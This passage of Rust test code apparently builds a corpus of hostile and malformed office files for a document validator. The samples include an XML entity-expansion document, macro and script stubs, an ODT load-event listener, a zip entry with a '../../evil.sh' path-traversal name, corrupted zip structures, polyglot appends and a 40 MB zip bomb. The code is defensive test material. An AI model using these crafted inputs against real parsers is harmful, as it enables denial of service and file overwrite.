        entry("_rels/.rels", DOCX_RELS),
        entry("word/document.xml", b"<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><w:document>&lol2;</w:document>"),
    ]), "active_content"));
    bad.push(sample("macro-sheet.xlsx", zip(&[
        entry("[Content_Types].xml", b"<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>"),
        entry("_rels/.rels", DOCX_RELS),
        entry("xl/workbook.xml", b"<workbook/>"),
        entry("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
    ]), "active_content"));
    bad.push(sample("basic.odt", odt(&[entry("Basic/Standard/Module1.xml", b"<script:module/>")]), "active_content"));
    bad.push(sample("scripts.odt", odt(&[entry("Scripts/python/run.py", b"import os")]), "active_content"));
    bad.push(sample("su-kien.odt", odt_with(
        b"application/vnd.oasis.opendocument.text",
        br#"<office:document-content><office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners></office:document-content>"#,
        &[],
    ), "active_content"));

    // Office: damage, encryption, hidden data, bombs.
    bad.push(sample("chi-types.docx", zip(&[entry("[Content_Types].xml", DOCX_TYPES)]), "damaged"));
    bad.push(sample(
        "thieu-document.docx",
        zip(&[entry("[Content_Types].xml", DOCX_TYPES), entry("_rels/.rels", DOCX_RELS)]),
        "damaged",
    ));
    bad.push(sample(
        "thieu-manifest.odt",
        zip(&[stored("mimetype", b"application/vnd.oasis.opendocument.text"), entry("content.xml", ODT_CONTENT)]),
        "damaged",
    ));
    bad.push(sample("chi-dau-zip.docx", b"PK\x03\x04".to_vec(), "damaged"));
    for keep in [30, good_docx.len() / 2, good_docx.len() - 22, good_docx.len() - 1] {
        bad.push(sample(format!("cat-{keep}.docx"), cut(&good_docx, keep), "damaged"));
    }
    bad.push(sample("cat-nua.odt", cut(&good_odt, good_odt.len() / 2), "damaged"));
    let mut wrong_crc = docx_entries();
    wrong_crc[2].bad_crc = true;
    bad.push(sample("sai-crc.docx", zip(&wrong_crc), "damaged"));
    let mut bzip = docx_entries();
    bzip[2].method = Some(12);
    bad.push(sample("bzip2.docx", zip(&bzip), "damaged"));
    let mut duplicate = docx_entries();
    duplicate.push(entry("word/document.xml", b"<w:document>second</w:document>"));
    bad.push(sample("trung-ten.docx", zip(&duplicate), "damaged"));
    bad.push(sample("duong-dan-ra-ngoai.docx", docx(&[entry("../../evil.sh", b"#!/bin/sh")]), "damaged"));
    let mut overlapping = docx_entries();
    overlapping.push(ZipEntry { offset_of: Some(0), ..entry("word/styles.xml", b"<w:styles/>") });
    bad.push(sample("chong-lan.docx", zip(&overlapping), "damaged"));
    let mut encrypted = docx_entries();
    encrypted[2].flags = 1;
    bad.push(sample("ma-hoa.docx", zip(&encrypted), "encrypted"));
    let mut gap = docx_entries();
    gap[1].gap = b"%hidden payload between entries%".to_vec();
    bad.push(sample("khe-giua.docx", zip(&gap), "hidden_content"));
    bad.push(sample("docx-va-rac.docx", with(good_docx.clone(), b"trailing"), "hidden_content"));
    bad.push(sample("docx-va-pdf.docx", with(good_docx.clone(), &good_pdf), "hidden_content"));
    bad.push(sample("chu-thich.docx", zip_with_comment(&docx_entries(), b"a comment hides things"), "hidden_content"));
    let mut pdf_first = vec![stored("a.pdf", &good_pdf)];
    pdf_first.extend(docx_entries());
    bad.push(sample("pdf-trong-docx.docx", zip(&pdf_first), "hidden_content"));
    bad.push(sample("bom-zip.docx", docx(&[entry("word/media/image1.png", &vec![0u8; 40 * 1024 * 1024])]), "unpacks"));
    let many_entries: Vec<ZipEntry> = (0..2_001).map(|i| stored(&format!("word/p{i}.txt"), b"x")).collect();
    bad.push(sample("qua-nhieu-muc.docx", zip(&many_entries), "unpacks"));
    bad
}
